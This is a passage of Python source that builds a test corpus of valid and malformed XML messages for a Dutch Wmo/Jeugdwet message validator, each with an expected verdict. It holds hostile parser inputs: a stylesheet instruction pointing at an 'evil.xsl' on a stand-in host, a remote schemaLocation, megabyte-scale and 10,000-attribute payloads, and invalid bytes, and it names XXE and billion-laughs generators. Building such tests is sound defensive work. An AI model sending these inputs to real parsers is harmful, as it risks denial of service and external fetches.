        "utf8-bom-no-declaration",
        VALID,
        tolerated,
        b"\xef\xbb\xbf" + utf8(sub(text, DECLARATION + "\r\n", "")),
        "WMO305",
        achternaam,
    )
    yield Doc(
        "encoding",
        "utf8-double-bom",
        NOT_XML,
        "the second BOM is a character before the root",
        b"\xef\xbb\xbf\xef\xbb\xbf" + utf8(text),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "utf8-lowercase-declaration",
        VALID,
        "encoding names are case-insensitive",
        utf8(sub(text, DECLARATION, '<?xml version="1.0" encoding="utf-8"?>')),
        "WMO305",
        achternaam,
    )
    yield Doc(
        "encoding",
        "no-declaration",
        VALID,
        "the declaration is optional; UTF-8 is the default",
        utf8(sub(text, DECLARATION + "\r\n", "")),
        "WMO305",
        achternaam,
    )
    yield Doc(
        "encoding",
        "standalone-single-quotes",
        VALID,
        "a different but correct XML declaration",
        utf8(sub(text, DECLARATION, "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>")),
        "WMO305",
        achternaam,
    )
    yield Doc(
        "encoding",
        "non-ascii-name-nfd",
        VALID,
        "combining characters are just characters",
        utf8(_305(achternaam="Mu\u0308ller")),
        "WMO305",
        {"client.naam.geslachtsnaam.achternaam": "Mu\u0308ller"},
    )


def newlines() -> Iterator[Doc]:
    seed = toewijzing(commentaar="Regel een.\r\nRegel twee.")
    for variant, newline in [("crlf", "\r\n"), ("lf", "\n"), ("cr-only", "\r"), ("none", "")]:
        text = seed.render(Style("wmo301", "iwmo", newline=newline, indent="\t" if newline else ""))
        # End-of-line handling (XML 1.0 §2.11) turns CR LF and a lone CR into LF, also inside text.
        yield Doc(
            "newlines",
            variant,
            VALID,
            "line ends are normalised by the parser; still the same message",
            utf8(text),
            "WMO301",
            {"client.commentaar": "Regel een.\nRegel twee."},
        )
    mixed = (
        seed.render()
        .replace("<wmo301:Client>\r\n", "<wmo301:Client>\n")
        .replace("</wmo301:Header>\r\n", "</wmo301:Header>\r")
    )
    yield Doc("newlines", "mixed", VALID, "mixed line ends are still line ends", utf8(mixed), "WMO301")
    spaces = seed.render(Style("wmo301", "iwmo", newline="\n", indent="    "))
    yield Doc(
        "newlines", "spaces-indent", VALID, "indentation is ignorable whitespace", utf8(spaces), "WMO301"
    )
    yield Doc(
        "newlines",
        "char-ref-cr",
        VALID,
        "a CR written as &#13; survives line-end normalisation",
        utf8(toewijzing(commentaar="Regel een.&#13;\nRegel twee.").render()),
        "WMO301",
        {"client.commentaar": "Regel een.\r\nRegel twee."},
    )
    yield Doc(
        "newlines",
        "trailing-whitespace-after-root",
        VALID,
        "whitespace after the root is allowed",
        utf8(seed.render() + "\r\n\r\n\t  \r\n"),
        "WMO301",
    )


def namespaces() -> Iterator[Doc]:
    seed = start()
    why = "not the namespace of a supported message"
    for variant, ns in [
        ("urn", "urn:example:bericht"),
        ("xhtml", "http://www.w3.org/1999/xhtml"),
        ("https-instead-of-http", "https://www.istandaarden.nl/iwmo/3_2/wmo305/schema"),
        ("trailing-slash", f"{seed.namespace}/"),
        ("upper-case", seed.namespace.upper()),
        ("unknown-message-wmo399", f"{NS_BASE}/iwmo/3_2/wmo399/schema"),
        ("basisschema-as-message", seed.basis_namespace),
        ("empty-string-default", ""),
    ]:
        if ns:
            text = seed.render(namespace=ns)
        else:
            text = sub(seed.render(), 'xmlns:wmo305="' + seed.namespace + '"', 'xmlns:wmo305="urn:x"')
            text = text.replace("wmo305:Bericht", "Bericht").replace("<Bericht ", '<Bericht xmlns="" ', 1)
        yield Doc("namespace", variant, UNSUPPORTED, why, utf8(text))
    no_ns = (
        f"{DECLARATION}\r\n<Bericht><Header><BerichtCode>418</BerichtCode></Header>"
        f"<Client><Bsn>{BSN_CLIENT}</Bsn></Client></Bericht>\r\n"
    )
    yield Doc("namespace", "no-namespace", UNSUPPORTED, "a root 'Bericht' without a namespace", utf8(no_ns))
    yield Doc(
        "namespace",
        "xhtml-page",
        UNSUPPORTED,
        "well-formed XHTML is XML, but not a message",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Bericht</p></body></html>',
    )
    yield Doc(
        "namespace",
        "right-namespace-wrong-root",
        UNSUPPORTED,
        "the root element must be Bericht",
        utf8(
            sub(
                sub(seed.render(), "<wmo305:Bericht ", "<wmo305:Berichten "),
                "</wmo305:Bericht>",
                "</wmo305:Berichten>",
            )
        ),
    )
    mixed = seed.render(basis_namespace=f"{NS_BASE}/iwmo/3_1/basisschema/schema")
    yield Doc(
        "namespace",
        "basisschema-of-3-1",
        INVALID_XSD,
        "a 3.2 message whose datatype children are in the 3.1 basisschema namespace",
        utf8(mixed),
        "WMO305",
    )
    other = seed.render(basis_namespace=f"{NS_BASE}/ijw/3_2/basisschema/schema")
    yield Doc(
        "namespace",
        "basisschema-of-ijw",
        INVALID_XSD,
        "an iWmo message with iJw basisschema children",
        utf8(other),
        "WMO305",
    )


def _release(seed: Seed, std: str, release: str, suffix: str = "") -> str:
    lower = "wmo" if std == "iwmo" else "jw"
    ns = f"{NS_BASE}/{std}/{release}/{lower}{seed.number}/schema{suffix}"
    basis = f"{NS_BASE}/{std}/{release}/basisschema/schema{suffix}"
    return seed.render(namespace=ns, basis_namespace=basis)


def releases() -> Iterator[Doc]:
    why = "a release this service does not support: only iWmo 3.2 and iJw 3.2"
    v31 = sub(_release(start("iwmo"), "iwmo", "3_1"), "BerichtSubversie>2<", "BerichtSubversie>1<")
    yield Doc("release", "iwmo-3-1-wmo305", UNSUPPORTED, why, utf8(v31))
    v31jw = sub(_release(start("ijw"), "ijw", "3_1"), "BerichtSubversie>2<", "BerichtSubversie>1<")
    yield Doc("release", "ijw-3-1-jw305", UNSUPPORTED, why, utf8(v31jw))
    ns21 = f"{NS_BASE}/iwmo/2_1/wmo301/schema/2_1"
    basis21 = f"{NS_BASE}/iwmo/2_1/basisschema/schema/2_1"
    v21 = (
        f'{DECLARATION}\r\n<wmo301:Bericht xmlns:wmo301="{ns21}" xmlns:iwmo="{basis21}">\r\n'
        "<wmo301:Header><wmo301:BerichtCode>414</wmo301:BerichtCode><wmo301:BerichtVersie>2"
        "</wmo301:BerichtVersie><wmo301:BerichtSubversie>1</wmo301:BerichtSubversie>"
        f"<wmo301:Afzender>{GEMEENTE}</wmo301:Afzender><wmo301:Ontvanger>{AANBIEDER}</wmo301:Ontvanger>"
        "<wmo301:BerichtIdentificatie><iwmo:Identificatie>OLD-1</iwmo:Identificatie>"
        "<iwmo:Dagtekening>2019-06-01</iwmo:Dagtekening></wmo301:BerichtIdentificatie></wmo301:Header>\r\n"
        f"<wmo301:Clienten><wmo301:Client><wmo301:Bsn>{BSN_THIRD}</wmo301:Bsn>"
        "<wmo301:Beschikking><wmo301:BeschikkingNummer>1</wmo301:BeschikkingNummer></wmo301:Beschikking>"
        "</wmo301:Client></wmo301:Clienten>\r\n</wmo301:Bericht>\r\n"
    )
    yield Doc("release", "iwmo-2-1-wmo301", UNSUPPORTED, why, utf8(v21))
    v20 = _release(start("iwmo"), "iwmo", "2_0", "/2_0")
    yield Doc("release", "iwmo-2-0-wmo305", UNSUPPORTED, why, utf8(v20))
    jw30 = sub(_release(start("ijw"), "ijw", "3_0"), "BerichtSubversie>2<", "BerichtSubversie>0<")
    yield Doc("release", "ijw-3-0-jw305", UNSUPPORTED, why, utf8(jw30))
    jw30_315 = (
        f'{DECLARATION}\r\n<jw315:Bericht xmlns:jw315="{NS_BASE}/ijw/3_0/jw315/schema" '
        f'xmlns:ijw="{NS_BASE}/ijw/3_0/basisschema/schema"><jw315:Header><jw315:BerichtCode>446'
        "</jw315:BerichtCode></jw315:Header></jw315:Bericht>\r\n"
    )
    yield Doc("release", "ijw-3-0-jw315", UNSUPPORTED, why, utf8(jw30_315))
    yield Doc("release", "iwmo-3-3-future", UNSUPPORTED, why, utf8(_release(start("iwmo"), "iwmo", "3_3")))


def berichtcode() -> Iterator[Doc]:
    text = _305()
    why = "the message XSD pins the header values of this message type"
    for variant, old, new in [
        ("414-in-wmo305", ">418<", ">414<"),
        ("438-jw305-code-in-wmo305", ">418<", ">438<"),
        ("999", ">418<", ">999<"),
        ("empty", ">418<", "><"),
        ("trailing-space", ">418<", ">418 <"),
        ("berichtversie-4", "BerichtVersie>3<", "BerichtVersie>4<"),
        ("berichtsubversie-1", "BerichtSubversie>2<", "BerichtSubversie>1<"),
    ]:
        yield Doc("berichtcode", variant, INVALID_XSD, why, utf8(sub(text, old, new)), "WMO305")
    yield Doc(
        "berichtcode",
        "414-in-jw301",
        INVALID_XSD,
        why,
        utf8(sub(toewijzing("ijw").render(), ">436<", ">414<")),
        "JW301",
    )


def retours() -> Iterator[Doc]:
    why = "a structurally valid retour; that it answers nothing is a processing matter, not validation"
    for variant, seed in [
        ("wmo306", retour("iwmo", 306)),
        ("jw302", retour("ijw", 302)),
        ("jw306", retour("ijw", 306)),
        ("wmo306-code-8848", retour("iwmo", 306, codes=("8848",))),
        ("jw302-code-0001", retour("ijw", 302, codes=("0001",))),
    ]:
        yield Doc(
            "retour-unmatched",
            variant,
            VALID,
            why,
            utf8(seed.render()),
            seed.name,
            {"header.identificatie_retour": f"RET-{seed.number}-1"},
        )


def oversized() -> Iterator[Doc]:
    one_mb = ("Zorg volgens plan; " * 55_189)[:1_048_576]
    yield Doc(
        "oversized",
        "commentaar-1mb-client",
        VALID,
        "LDT_Commentaar has no maximum length",
        utf8(toewijzing(commentaar=one_mb).render()),
        "WMO301",
        {"client.commentaar": one_mb},
    )
    yield Doc(
        "oversized",
        "commentaar-1mb-product",
        VALID,
        "LDT_Commentaar has no maximum length",
        utf8(toewijzing(products=[toegewezen_product("iwmo", "300201", one_mb)]).render()),
        "WMO301",
    )
    nine_mb = "x" * (9 * 1024 * 1024)
    yield Doc(
        "oversized",
        "commentaar-9mb",
        VALID,
        "no maximum in the standard; under the parser's text limit",
        utf8(toewijzing(commentaar=nine_mb).render()),
        "WMO301",
    )
    yield Doc(
        "oversized",
        "achternaam-10k",
        INVALID_XSD,
        "LDT_Naam is at most 200 characters",
        utf8(_305(achternaam="Visser" * 1667)),
        "WMO305",
    )
    yield Doc(
        "oversized",
        "achternaam-201",
        INVALID_XSD,
        "LDT_Naam is at most 200 characters",
        utf8(_305(achternaam="V" * 201)),
        "WMO305",
    )
    yield Doc(
        "oversized",
        "achternaam-200-non-ascii",
        VALID,
        "exactly 200 characters (400 bytes) is allowed",
        utf8(_305(achternaam="é" * 200)),
        "WMO305",
        {"client.naam.geslachtsnaam.achternaam": "é" * 200},
    )
    yield Doc(
        "oversized",
        "identificatie-10k",
        INVALID_XSD,
        "LDT_IdentificatieBericht is at most 12 characters",
        utf8(sub(_305(), ">HOST-305<", ">" + "9" * 10_000 + "<")),
        "WMO305",
    )
    yield Doc(
        "oversized",
        "tag-name-100k",
        NOT_XML,
        "a name longer than the parser's name limit",
        utf8(sub(_305(), "<wmo305:Client>", f"<wmo305:{'C' * 100_000}/><wmo305:Client>")),
        "WMO305",
    )
    yield Doc(
        "oversized",
        "attribute-value-1mb",
        INVALID_XSD,
        "no attributes are declared",
        utf8(sub(_305(), "<wmo305:Client>", f'<wmo305:Client a="{"a" * 1_048_576}">')),
        "WMO305",
    )
    attrs = " ".join(f'a{i}="{i}"' for i in range(10_000))
    yield Doc(
        "oversized",
        "attributes-10k",
        INVALID_XSD,
        "no attributes are declared",
        utf8(sub(_305(), "<wmo305:Client>", f"<wmo305:Client {attrs}>")),
        "WMO305",
    )
    decls = " ".join(f'xmlns:p{i}="urn:x:{i}"' for i in range(10_000))
    yield Doc(
        "oversized",
        "namespace-declarations-10k",
        VALID,
        "namespace declarations are not attributes; unused ones change nothing",
        utf8(sub(_305(), "<wmo305:Bericht ", f"<wmo305:Bericht {decls} ")),
        "WMO305",
    )
    yield Doc(
        "oversized",
        "products-2000",
        VALID,
        "StartProduct is 1..n",
        utf8(
            sub(
                _305(),
                "<wmo305:StartProducten>",
                "<wmo305:StartProducten>"
                + "".join(
                    f"<wmo305:StartProduct><wmo305:ToewijzingNummer>{400000 + i}</wmo305:ToewijzingNummer>"
                    "<wmo305:Begindatum>2025-03-12</wmo305:Begindatum>"
                    "<wmo305:StatusAanlevering>1</wmo305:StatusAanlevering></wmo305:StartProduct>"
                    for i in range(2000)
                ),
            )
        ),
        "WMO305",
    )


def control() -> Iterator[Doc]:
    base = _305()
    not_char = "not a character XML 1.0 allows"
    for variant, raw in [
        ("u0001", "\x01"),
        ("u0008-backspace", "\x08"),
        ("u000b-vertical-tab", "\x0b"),
        ("u000c-form-feed", "\x0c"),
        ("u001b-escape", "\x1b"),
        ("u001f", "\x1f"),
    ]:
        yield Doc(
            "control",
            f"raw-{variant}",
            NOT_XML,
            not_char,
            utf8(sub(base, ">Visser<", f">Vis{raw}ser<")),
            "WMO305",
        )
    for variant, ref in [
        ("charref-1", "&#1;"),
        ("charref-x1f", "&#x1F;"),
        ("charref-xfffe", "&#xFFFE;"),
        ("charref-surrogate", "&#xD800;"),
        ("charref-too-big", "&#x110000;"),
    ]:
        yield Doc(
            "control",
            variant,
            NOT_XML,
            "a character reference to " + not_char,
            utf8(sub(base, ">Visser<", f">Vis{ref}ser<")),
            "WMO305",
        )
    for variant, raw_bytes in [
        ("bytes-ufffe", b"\xef\xbf\xbe"),
        ("bytes-uffff", b"\xef\xbf\xbf"),
        ("bytes-lone-surrogate", b"\xed\xa0\x80"),
        ("bytes-overlong-lt", b"\xc0\xbc"),
        ("bytes-lone-continuation", b"\x80"),
    ]:
        data = utf8(base).replace(b">Visser<", b">Vis" + raw_bytes + b"ser<")
        yield Doc(
            "control", variant, NOT_XML, "bytes that are not a UTF-8 encoded XML character", data, "WMO305"
        )
    for variant, char in [
        ("u007f-delete", "\x7f"),
        ("u0085-next-line", "\x85"),
        ("u2028-line-separator", "\u2028"),
    ]:
        yield Doc(
            "control",
            f"allowed-{variant}",
            VALID,
            "an XML 1.0 character, allowed in LDT_Naam",
            utf8(sub(base, ">Visser<", f">Vis{char}ser<")),
            "WMO305",
            {"client.naam.geslachtsnaam.achternaam": f"Vis{char}ser"},
        )


def nul() -> Iterator[Doc]:
    data = utf8(_305())
    why = "NUL is never allowed in XML"
    yield Doc("nul", "in-text", NOT_XML, why, data.replace(b">Visser<", b">Vis\x00ser<"), "WMO305")
    yield Doc(
        "nul", "in-tag-name", NOT_XML, why, data.replace(b"<wmo305:Client>", b"<wmo305:Cli\x00ent>"), "WMO305"
    )
    yield Doc("nul", "after-root", NOT_XML, why, data + b"\x00", "WMO305")
    yield Doc("nul", "before-declaration", NOT_XML, why, b"\x00" + data, "WMO305")
    yield Doc("nul", "every-other-byte", NOT_XML, why, bytes(x for c in data[:512] for x in (c, 0)), "WMO305")
    yield Doc("nul", "one-kilobyte", NOT_XML, why, bytes(1024))


def processing_instructions() -> Iterator[Doc]:
    base = _305()
    ok = "processing instructions are not content; the message is unchanged"
    stylesheet = f'<?xml-stylesheet type="text/xsl" href="{UNREACHABLE}/evil.xsl"?>'
    yield Doc(
        "pi",
        "stylesheet-url-in-prolog",
        VALID,
        ok + " (and nothing is fetched)",
        utf8(sub(base, DECLARATION + "\r\n", DECLARATION + "\r\n" + stylesheet + "\r\n")),
        "WMO305",
    )
    yield Doc(
        "pi",
        "between-elements",
        VALID,
        ok,
        utf8(sub(base, "<wmo305:Geslacht>", "<?verwerk stap='1'?><wmo305:Geslacht>")),
        "WMO305",
    )
    yield Doc(
        "pi",
        "inside-bsn",
        VALID,
        ok + "; the value is the text around it",
        utf8(sub(base, f">{BSN_CLIENT}<", ">9999<?x?>00006<")),
        "WMO305",
        {"client.bsn": BSN_CLIENT},
    )
    yield Doc(
        "pi",
        "inside-achternaam",
        VALID,
        ok,
        utf8(sub(base, ">Visser<", ">Vis<?x y?>ser<")),
        "WMO305",
        {"client.naam.geslachtsnaam.achternaam": "Visser"},
    )
    yield Doc("pi", "after-root", VALID, ok, utf8(base + "<?einde?>\r\n"), "WMO305")
    yield Doc(
        "pi",
        "second-xml-declaration",
        NOT_XML,
        "the target 'xml' is reserved",
        utf8(sub(base, "<wmo305:Client>", DECLARATION + "<wmo305:Client>")),
        "WMO305",
    )
    yield Doc(
        "pi",
        "unterminated",
        NOT_XML,
        "a processing instruction that never ends",
        utf8(sub(base, "<wmo305:Client>", "<?x <wmo305:Client>")),
        "WMO305",
    )


def comments() -> Iterator[Doc]:
    base = _305()
    ok = "comments are not content; the message is unchanged"
    yield Doc(
        "comment",
        "before-root",
        VALID,
        ok,
        utf8(sub(base, "<wmo305:Bericht ", "<!-- voor -->\r\n<wmo305:Bericht ")),
        "WMO305",
    )
    yield Doc("comment", "after-root", VALID, ok, utf8(base + "<!-- na -->"), "WMO305")
    yield Doc(
        "comment",
        "inside-header",
        VALID,
        ok,
        utf8(sub(base, "<wmo305:BerichtVersie>", "<!--x--><wmo305:BerichtVersie>")),
        "WMO305",
    )
    yield Doc(
        "comment",
        "inside-bsn",
        VALID,
        ok + "; the value is the text around it",
        utf8(sub(base, f">{BSN_CLIENT}<", ">9999<!-- 0 -->00006<")),
        "WMO305",
        {"client.bsn": BSN_CLIENT},
    )
    yield Doc(
        "comment", "inside-date", VALID, ok, utf8(sub(base, ">2025-03-12<", ">2025-<!--x-->03-12<")), "WMO305"
    )
    yield Doc(
        "comment",
        "fake-markup-inside",
        VALID,
        "markup inside a comment is not markup",
        utf8(
            sub(base, "<wmo305:Client>", f"<!-- <wmo305:Bsn>{BSN_OTHER}</wmo305:Bsn> ]]> --><wmo305:Client>")
        ),
        "WMO305",
        {"client.bsn": BSN_CLIENT},
    )
    yield Doc(
        "comment",
        "one-megabyte",
        VALID,
        ok,
        utf8(sub(base, "<wmo305:Client>", "<!--" + "c" * 1_048_576 + "--><wmo305:Client>")),
        "WMO305",
    )
    yield Doc(
        "comment",
        "double-hyphen-inside",
        NOT_XML,
        "'--' is not allowed inside a comment",
        utf8(sub(base, "<wmo305:Client>", "<!-- a -- b --><wmo305:Client>")),
        "WMO305",
    )
    yield Doc(
        "comment",
        "before-declaration",
        NOT_XML,
        "the XML declaration must come first",
        utf8("<!-- eerst -->" + base),
        "WMO305",
    )
    yield Doc(
        "comment",
        "unterminated",
        NOT_XML,
        "a comment that never ends",
        utf8(sub(base, "<wmo305:Client>", "<!-- <wmo305:Client>")),
        "WMO305",
    )


def cdata() -> Iterator[Doc]:
    base = _305()
    yield Doc(
        "cdata",
        "whole-achternaam",
        VALID,
        "CDATA is character data",
        utf8(sub(base, ">Visser<", "><![CDATA[Visser]]><")),
        "WMO305",
        {"client.naam.geslachtsnaam.achternaam": "Visser"},
    )
    yield Doc(
        "cdata",
        "split-bsn",
        VALID,
        "CDATA and text together make the value",
        utf8(sub(base, f">{BSN_CLIENT}<", "><![CDATA[9999]]>00006<")),
        "WMO305",
        {"client.bsn": BSN_CLIENT},
    )
    yield Doc(
        "cdata",
        "markup-in-achternaam",
        VALID,
        "markup inside CDATA is text; LDT_Naam allows it",
        utf8(sub(base, ">Visser<", "><![CDATA[<b>Visser</b> & Zn]]><")),
        "WMO305",
        {"client.naam.geslachtsnaam.achternaam": "<b>Visser</b> & Zn"},
    )
    yield Doc(
        "cdata",
        "doctype-text-in-commentaar",
        VALID,
        "the characters '<!DOCTYPE' inside CDATA are text, not a document type declaration",
        utf8(toewijzing(commentaar="<![CDATA[<!DOCTYPE html><p>geplakt</p>]]>").render()),
        "WMO301",
        {"client.commentaar": "<!DOCTYPE html><p>geplakt</p>"},
    )
    yield Doc(
        "cdata",
        "text-in-element-only-content",
        INVALID_XSD,
        "Client has element-only content",
        utf8(sub(base, "<wmo305:Geslacht>", "<![CDATA[tekst]]><wmo305:Geslacht>")),
        "WMO305",
    )
    yield Doc(
        "cdata",
        "unterminated",
        NOT_XML,
        "a CDATA section that never ends",
        utf8(sub(base, ">Visser<", "><![CDATA[Visser<")),
        "WMO305",
    )
    yield Doc(
        "cdata",
        "end-marker-in-text",
        NOT_XML,
        "']]>' is not allowed in character data",
        utf8(sub(base, ">Visser<", ">Vis]]>ser<")),
        "WMO305",
    )


def prefixes() -> Iterator[Doc]:
    seed = start()
    values = {"client.bsn": BSN_CLIENT, "client.naam.geslachtsnaam.achternaam": "Visser"}
    why = "namespaces, not prefixes, identify elements"
    yield Doc(
        "prefix",
        "default-namespace-everywhere",
        VALID,
        why,
        utf8(seed.render(Style(None, None))),
        "WMO305",
        values,
    )
    yield Doc(
        "prefix",
        "default-message-prefixed-basis",
        VALID,
        why,
        utf8(seed.render(Style(None, "b"))),
        "WMO305",
        values,
    )
    yield Doc("prefix", "other-prefixes", VALID, why, utf8(seed.render(Style("x", "y"))), "WMO305", values)
    yield Doc(
        "prefix",
        "long-unicode-prefixes",
        VALID,
        why,
        utf8(seed.render(Style("bericht_ü", "basis.é-2"))),
        "WMO305",
        values,
    )
    yield Doc(
        "prefix",
        "swapped-names",
        VALID,
        why + " (the iwmo prefix names the message namespace here)",
        utf8(seed.render(Style("iwmo", "wmo305"))),
        "WMO305",
        values,
    )
    redeclared = sub(seed.render(), "<wmo305:Client>", f'<wmo305:Client xmlns:wmo305="{seed.namespace}">')
    yield Doc("prefix", "redeclared-same-namespace", VALID, why, utf8(redeclared), "WMO305", values)
    yield Doc(
        "prefix",
        "unbound-prefix",
        NOT_XML,
        "a prefix with no namespace declaration",
        utf8(sub(seed.render(), "<wmo305:Geslacht>1</wmo305:Geslacht>", "<q:Geslacht>1</q:Geslacht>")),
        "WMO305",
    )
    yield Doc(
        "prefix",
        "empty-prefix-declaration",
        NOT_XML,
        'xmlns:p="" is not allowed in XML 1.0 namespaces',
        utf8(sub(seed.render(), "<wmo305:Client>", '<wmo305:Client xmlns:p="">')),
        "WMO305",
    )
    yield Doc(
        "prefix",
        "rebind-xml-prefix",
        NOT_XML,
        "the xml prefix cannot be bound to another namespace",
        utf8(sub(seed.render(), "<wmo305:Client>", '<wmo305:Client xmlns:xml="urn:x">')),
        "WMO305",
    )
    wrong = sub(seed.render(), "<wmo305:Bsn>999900006</wmo305:Bsn>", "<iwmo:Bsn>999900006</iwmo:Bsn>")
    yield Doc(
        "prefix",
        "message-element-in-basis-namespace",
        INVALID_XSD,
        "Bsn is declared in the message namespace",
        utf8(wrong),
        "WMO305",
    )
    undeclared = sub(seed.render(Style(None, "iwmo")), "<Bsn>", '<Bsn xmlns="">')
    yield Doc(
        "prefix",
        "child-in-no-namespace",
        INVALID_XSD,
        'xmlns="" takes Bsn out of the namespace',
        utf8(undeclared),
        "WMO305",
    )


def attributes() -> Iterator[Doc]:
    base = _305()
    why = "no element of the standard has attributes"
    yield Doc(
        "attribute",
        "duplicate",
        NOT_XML,
        "an attribute may occur once",
        utf8(sub(base, "<wmo305:Client>", '<wmo305:Client a="1" a="2">')),
        "WMO305",
    )
    yield Doc(
        "attribute",
        "duplicate-expanded-name",
        NOT_XML,
        "two prefixes, one namespace, one name",
        utf8(sub(base, "<wmo305:Client>", '<wmo305:Client xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2">')),
        "WMO305",
    )
    yield Doc(
        "attribute",
        "duplicate-namespace-declaration",
        NOT_XML,
        "a prefix may be declared once per element",
        utf8(sub(base, "<wmo305:Client>", '<wmo305:Client xmlns:p="urn:x" xmlns:p="urn:y">')),
        "WMO305",
    )
    yield Doc(
        "attribute",
        "on-root",
        INVALID_XSD,
        why,
        utf8(sub(base, "<wmo305:Bericht ", '<wmo305:Bericht id="b1" ')),
        "WMO305",
    )
    yield Doc(
        "attribute",
        "on-bsn",
        INVALID_XSD,
        why,
        utf8(sub(base, "<wmo305:Bsn>", '<wmo305:Bsn geldig="ja">')),
        "WMO305",
    )
    yield Doc(
        "attribute",
        "xml-lang-on-achternaam",
        INVALID_XSD,
        why + " (xml:lang neither)",
        utf8(sub(base, "<iwmo:Achternaam>", '<iwmo:Achternaam xml:lang="nl">')),
        "WMO305",
    )
    yield Doc(
        "attribute",
        "xsi-nil-on-bsn",
        INVALID_XSD,
        "Bsn is not nillable",
        utf8(
            sub(
                sub(
                    base,
                    "<wmo305:Bericht ",
                    '<wmo305:Bericht xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ',
                ),
                f"<wmo305:Bsn>{BSN_CLIENT}</wmo305:Bsn>",
                '<wmo305:Bsn xsi:nil="true"/>',
            )
        ),
        "WMO305",
    )
    yield Doc(
        "attribute",
        "xsi-schemalocation-url",
        VALID,
        "xsi:schemaLocation is a hint a validator may ignore; we validate against our own XSD and "
        "fetch nothing",
        utf8(
            sub(
                base,
                "<wmo305:Bericht ",
                '<wmo305:Bericht xmlns:xsi="http://www.w3.org/2001/XMLSchema-'
                f'instance" xsi:schemaLocation="{start().namespace} {UNREACHABLE}/WMO305.xsd" ',
            )
        ),
        "WMO305",
    )


def mixed_content() -> Iterator[Doc]:
    base = _305()
    why = "text where only elements are allowed, or an element where only text is"
    yield Doc(
        "mixed",
        "text-in-client",
        INVALID_XSD,
        why,
        utf8(sub(base, "<wmo305:Geslacht>", "tekst<wmo305:Geslacht>")),
        "WMO305",
    )
    yield Doc(
        "mixed",
        "text-in-root",
        INVALID_XSD,
        why,
        utf8(sub(base, "<wmo305:Client>", "Beste gemeente,<wmo305:Client>")),
        "WMO305",
    )
    yield Doc(
        "mixed",
        "element-in-achternaam",
        INVALID_XSD,
        why,
        utf8(sub(base, ">Visser<", ">Vis<wmo305:b>s</wmo305:b>er<")),
        "WMO305",
    )
    yield Doc(
        "mixed",
        "empty-element-in-bsn",
        INVALID_XSD,
        why,
        utf8(sub(base, f">{BSN_CLIENT}<", ">9999<wmo305:x/>00006<")),
        "WMO305",
    )
    yield Doc(
        "mixed",
        "predefined-entities",
        VALID,
        "the five predefined entities are character data",
        utf8(sub(base, ">Visser<", ">Visser &amp; Zn &lt;&gt;&quot;&apos;<")),
        "WMO305",
        {"client.naam.geslachtsnaam.achternaam": "Visser & Zn <>\"'"},
    )
    yield Doc(
        "mixed",
        "character-references",
        VALID,
        "character references are characters",
        utf8(sub(base, ">Visser<", ">M&#252;ll&#xE9;r<")),
        "WMO305",
        {"client.naam.geslachtsnaam.achternaam": "Müllér"},
    )


def values() -> Iterator[Doc]:
    """Lexical corners of the XSD datatypes, and two level-2 rules, to pin the verdict boundaries."""
    base = _305()
    yield Doc(
        "value",
        "integer-leading-zeros-plus",
        VALID,
        "xs:integer allows a sign and leading zeros",
        utf8(sub(base, ">300201<", ">+000300201<")),
        "WMO305",
        {"client.producten.0.toewijzingnummer": 300201},
    )
    yield Doc(
        "value",
        "integer-whitespace",
        VALID,
        "xs:integer collapses whitespace",
        utf8(sub(base, ">300201<", ">\r\n  300201\t<")),
        "WMO305",
        {"client.producten.0.toewijzingnummer": 300201},
    )
    yield Doc(
        "value",
        "bsn-with-space",
        INVALID_XSD,
        "a string keeps its spaces: the pattern [0-9]{9} fails",
        utf8(sub(base, f">{BSN_CLIENT}<", f"> {BSN_CLIENT}<")),
        "WMO305",
    )
    yield Doc(
        "value",
        "bsn-arabic-digits",
        INVALID_XSD,
        "[0-9] is ASCII digits only",
        utf8(sub(base, f">{BSN_CLIENT}<", ">٩٩٩٩٠٠٠٠٦<")),
        "WMO305",
    )
    yield Doc(
        "value",
        "date-february-30",
        INVALID_XSD,
        "not a date",
        utf8(sub(base, ">2025-03-12<", ">2025-02-30<")),
        "WMO305",
    )
    yield Doc(
        "value",
        "date-with-timezone",
        INVALID_XSD,
        "LDT_Datum forbids a time zone",
        utf8(sub(base, ">2025-03-12<", ">2025-03-12Z<")),
        "WMO305",
    )
    yield Doc(
        "value",
        "date-year-10000",
        REJECTED_RULES,
        "schema-valid, but a year after 9999 cannot be processed (codec: level-2 rejection)",
        utf8(sub(base, ">2025-03-12<", ">10000-03-12<")),
        "WMO305",
    )
    yield Doc(
        "value",
        "time-24",
        REJECTED_RULES,
        "24:00:00 is a valid xs:time, but cannot be processed (codec: level-2 rejection)",
        utf8(toewijzing(products=[toegewezen_product("iwmo", "300201", tijd="24:00:00")]).render()),
        "WMO301",
    )
    yield Doc(
        "value",
        "volume-too-big",
        INVALID_XSD,
        "LDT_Volume is at most 99999999",
        utf8(sub(toewijzing().render(), ">4<", ">100000000<")),
        "WMO301",
    )
    for seed in (
        start("iwmo", bsn=BSN_NOT_ELFPROEF),
        start("ijw", bsn=BSN_NOT_ELFPROEF),
        toewijzing("iwmo", bsn=BSN_NOT_ELFPROEF),
    ):
        yield Doc(
            "rules",
            f"{seed.name.lower()}-bsn-not-elfproef",
            REJECTED_RULES,
            "CS002: the 11-proof fails",
            utf8(seed.render()),
            seed.name,
        )
    ends_before = toewijzing(
        products=[toegewezen_product("iwmo", "300201", ingangsdatum="2025-06-01", einddatum="2025-05-31")]
    )
    yield Doc(
        "rules",
        "wmo301-einddatum-before-ingangsdatum",
        REJECTED_RULES,
        "CS003: Einddatum >= Ingangsdatum",
        utf8(ends_before.render()),
        "WMO301",
    )


def baseline() -> Iterator[Doc]:
    for seed in seeds().values():
        yield Doc(
            "baseline",
            seed.name.lower(),
            VALID,
            "a valid seed message",
            utf8(seed.render()),
            seed.name,
            {
                "header.identificatie"
                if seed.number not in (302, 306)
                else "header.heen.identificatie": f"HOST-{seed.number}"
                if seed.number not in (302, 306)
                else f"NOBODY-{seed.number - 1}"
            },
        )


CATEGORIES: tuple[Callable[[], Iterator[Doc]], ...] = (
    baseline,
    not_xml,
    empty,
    whitespace,
    truncated,
    size,
    nested,
    xxe,
    laughs,
    external_dtd,
    internal_dtd,
    xinclude,
    encoding,
    newlines,
    namespaces,
    releases,
    berichtcode,
    retours,
    oversized,
    control,
    nul,
    processing_instructions,
    comments,
    cdata,
    prefixes,
    attributes,
    mixed_content,
    values,
)


def corpus() -> Iterator[Doc]:
    for category in CATEGORIES:
        yield from category()


